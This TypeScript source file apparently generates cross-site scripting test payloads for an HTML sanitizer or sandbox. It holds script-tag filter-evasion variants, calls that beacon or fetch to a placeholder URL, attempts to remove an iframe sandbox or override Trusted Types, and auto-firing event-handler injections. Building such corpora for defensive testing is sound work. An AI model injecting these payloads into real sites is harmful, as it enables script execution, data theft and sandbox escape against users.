/** Scripts, and handlers of events that happen by themselves or at the slightest touch. */
import { each } from "./payload";

export const scripts: readonly string[] = [
  "<script>{run}</script>",
  "<SCRIPT>{run}</SCRIPT>",
  "<ScRiPt >{run}</sCrIpT >",
  "<script\n>{run}</script\n>",
  "<script\t/x>{run}</script>",
  "<script/>{run}</script>",
  "<script x=>{run}</script x=>",
  "<script\u000c>{run}</script>",
  "<script>{run}",
  "<script>{run}<!--",
  "<script><!--\n{run}\n--></script>",
  "<script>/*</p>*/{run}</script>",
  "<script defer>{run}</script>",
  "<script async src={url}></script>",
  '<script src="{url}"></script>',
  '<script src="{//}"></script>',
  '<script src="\\\\canary.invalid\\x"></script>',
  '<script src="data:text/javascript,{run}"></script>',
  '<script src="data:,{run}"></script>',
  '<script type="module">{run}</script>',
  '<script type="module" src="{url}"></script>',
  '<script type="module">import "{url}"</script>',
  '<script type="text/javascript1.5">{run}</script>',
  '<script type="text/ecmascript">{run}</script>',
  '<script type=" text/javascript ">{run}</script>',
  '<script language="javascript">{run}</script>',
  '<script language="vbscript">{run}</script>',
  '<script type="importmap">{"imports":{"#":"{url}"}}</script><script type="module">import "#"</script>',
  '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{url}"]}]}</script>',
  '<script type="speculationrules">{"prerender":[{"source":"list","urls":["{url}"]}]}</script>',
  "<script nonce>{run}</script>",
  '<script nonce="GALLEY_NONCE">{run}</script>',
  "<script charset=utf-7>+ADw-script+AD4-{run}+ADw-/script+AD4-</script>",
  "<script for=window event=onload>{run}</script>",
  "<script>eval('{run}')</script>",
  "<script>setTimeout('{run}')</script>",
  "<script>Function('{run}')()</script>",
  "<script>document.write('<img src=x onerror={run}>')</script>",
  "<script>fetch('{url}')</script>",
  "<script>navigator.sendBeacon('{url}')</script>",
  "<script>new WebSocket('ws:{//}')</script>",
  "<script>location='{url}'</script>",
  "<script>top.location='{url}'</script>",
  "<script>open('{url}')</script>",
  "<script>parent.postMessage('{run}','*')</script>",
  "<script>new Worker('data:,{run}')</script>",
  "<script>import('{url}')</script>",
  "<script>trustedTypes.createPolicy('default',{createHTML:x=>x,createScript:x=>x});{run}</script>",
  "<script>parent.trustedTypes.createPolicy('galley-inert',{});{run}</script>",
  "<script>frameElement.removeAttribute('sandbox');{run}</script>",
  "<script>frameElement.sandbox='allow-scripts';location.reload();{run}</script>",
  "<svg><script>{run}</script></svg>",
  "<svg><script>{run}</svg>",
  "<svg><script href=data:,{run}></script></svg>",
  "<svg><script xlink:href=data:,{run} /></svg>",
  "<svg><script href={url} /></svg>",
  "<svg><script>&#95;&#95;{run}</script></svg>",
  "<svg><script><![CDATA[{run}]]></script></svg>",
  "<svg><a><script>{run}</script></a></svg>",
  "<math><script>{run}</script></math>",
  "<math><mtext><script>{run}</script></mtext></math>",
  "<table><script>{run}</script></table>",
  "<select><script>{run}</script></select>",
  "<select><option><script>{run}</script></option></select>",
  "<noscript><script>{run}</script></noscript>",
  "<template><script>{run}</script></template>",
  "<div><template shadowrootmode=open><script>{run}</script></template></div>",
  "<div><template shadowrootmode=open><img src=x onerror={run}></template></div>",
  "<scr<script>ipt>{run}</scr</script>ipt>",
  "<<script>{run}//<</script>",
  "<script <script>{run}</script>",
  "<script\0>{run}</script>",
  "<s\0cript>{run}</s\0cript>",
  "\u2028<script>{run}</script>",
  "<!--><script>{run}</script>-->",
  "<!--!><script>{run}</script>-->",
  "<!-- --!><script>{run}</script>-->",
  "<![CDATA[<script>{run}</script>]]>",
  "<![CDATA[><script>{run}</script>]]>",
  "<?xml ?><script>{run}</script>",
  "<!DOCTYPE x [<!ENTITY y '{run}'>]><script>&y;</script>",
  "<xml id=x><x><script>{run}</script></x></xml>",
  "＜script＞{run}＜/script＞",
  "‹script›{run}‹/script›",
];

const elements = [
  "img src=x",
  "img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=",
  "svg",
  "body",
  "details open",
  "input autofocus",
  "video src=x autoplay",
  "audio src=x autoplay",
  "div tabindex=1 autofocus style=animation:x contenteditable",
  "iframe src=about:blank",
  "object data=x type=text/html",
  "marquee",
  "x-own style=transition:outline",
  "form",
  "select autofocus",
  "svg><animate attributeName=x dur=1s",
  "math",
  "style",
  "link rel=stylesheet href=data:text/css,",
];

const events =
  "error load loadstart loadend loadeddata loadedmetadata canplay canplaythrough durationchange play playing progress suspend stalled waiting emptied abort timeupdate focus focusin blur focusout click dblclick auxclick contextmenu mousedown mouseup mouseenter mouseleave mousemove mouseover mouseout pointerdown pointerup pointerenter pointerover pointermove pointerrawupdate gotpointercapture touchstart wheel mousewheel scroll scrollend scrollsnapchange toggle beforetoggle cancel close cuechange input beforeinput change invalid submit reset formdata select selectstart selectionchange copy cut paste beforecopy drag dragstart dragover drop keydown keyup keypress resize animationstart animationend animationiteration animationcancel transitionrun transitionstart transitionend begin end repeat start finish bounce securitypolicyviolation slotchange contentvisibilityautostatechange beforematch beforexrselect command pageshow pagehide hashchange popstate message messageerror storage unload beforeunload beforeprint afterprint online offline languagechange unhandledrejection rejectionhandled webkitanimationstart webkittransitionend webkitfullscreenchange fullscreenchange readystatechange".split(
    " ",
  );

/** Each event on the elements that can be made to have it, and some that cannot. */
export function* handlers(): Generator<string> {
  for (const event of events) {
    for (const element of elements) {
      if (!isTelling(event, element)) continue;
      yield `<${element} on${event}={run}>x`;
    }
  }
}

/** Events that happen by themselves go everywhere; the rest stands on a few elements. */
function isTelling(event: string, element: string): boolean {
  const isEager =
    /^(?:error|load|loadstart|focus|focusin|toggle|begin|start|animationstart|transitionrun|pageshow|readystatechange)$/.test(
      event,
    );
  return isEager || /^(?:img src=x|body|div|svg><)/.test(element);
}

/** The same handler in every spelling that a parser takes. */
export function* spelledHandlers(): Generator<string> {
  const before = [
    " ",
    "\n",
    "\t",
    "\f",
    "/",
    " / ",
    "/**/",
    " x=`y` ",
    '"',
    " a='>' ",
  ];
  const names = ["onerror", "ONERROR", "oNeRrOr"];
  const values = [
    "={run}",
    '="{run}"',
    "='{run}'",
    "\n=\n{run}",
    '="&#95;_ran(0);{run}"',
    '="{run}"x',
  ];
  for (const [gap, name, value] of each(before, names, values)) {
    yield `<img src=x${gap}${name}${value}>`;
  }
}
